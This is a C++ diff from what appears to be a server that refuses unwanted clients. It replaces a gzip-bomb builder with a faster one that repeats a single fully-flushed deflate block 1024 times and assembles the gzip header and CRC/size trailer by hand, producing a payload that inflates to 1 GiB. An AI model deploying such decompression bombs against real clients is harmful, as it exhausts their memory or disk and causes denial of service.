@@ -68,24 +68,37 @@ Plan planRefusal(const Dialect& dialect, const Refusal& refusal) {
             Ending::KeepAlive};
 }
 
-// 1 GiB of the same byte.
+// 1 GiB of spaces. One compressed block is repeated: after a full flush each stands for itself.
+std::string makeGzipBomb() {
+    constexpr int blocks = 1024;
+    std::string plain(1u << 20, ' ');
+    std::string block(1u << 14, '\0');
+    z_stream stream{};
+    deflateInit2(&stream, 9, Z_DEFLATED, -15, 9, Z_DEFAULT_STRATEGY);
+    stream.next_in = reinterpret_cast<Bytef*>(plain.data());
+    stream.avail_in = static_cast<uInt>(plain.size());
+    stream.next_out = reinterpret_cast<Bytef*>(block.data());
+    stream.avail_out = static_cast<uInt>(block.size());
+    deflate(&stream, Z_FULL_FLUSH);
+    block.resize(stream.total_out);
+    deflateEnd(&stream);
+    const uLong blockSum =
+        crc32(0, reinterpret_cast<const Bytef*>(plain.data()), static_cast<uInt>(plain.size()));
+    uLong sum = crc32(0, nullptr, 0);
+    std::string bomb("\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff", 10);
+    for (int i = 0; i < blocks; ++i) {
+        bomb += block;
+        sum = crc32_combine(sum, blockSum, static_cast<z_off_t>(plain.size()));
+    }
+    bomb.append("\x03\x00", 2); // the empty last block
+    for (const uLong number : {sum, static_cast<uLong>(blocks) << 20})
+        for (int shift = 0; shift < 32; shift += 8)
+            bomb += static_cast<char>(number >> shift & 0xff);
+    return bomb;
+}
+
 const std::string& gzipBomb() {
-    static const std::string bytes = [] {
-        z_stream stream{};
-        deflateInit2(&stream, 9, Z_DEFLATED, 15 + 16, 9, Z_DEFAULT_STRATEGY);
-        std::string block(1u << 20, ' ');
-        std::string out(4u << 20, '\0');
-        stream.next_out = reinterpret_cast<Bytef*>(out.data());
-        stream.avail_out = static_cast<uInt>(out.size());
-        for (int i = 0; i < 1024; ++i) {
-            stream.next_in = reinterpret_cast<Bytef*>(block.data());
-            stream.avail_in = static_cast<uInt>(block.size());
-            deflate(&stream, i == 1023 ? Z_FINISH : Z_NO_FLUSH);
-        }
-        out.resize(stream.total_out);
-        deflateEnd(&stream);
-        return out;
-    }();
+    static const std::string bytes = makeGzipBomb();
     return bytes;
 }
 
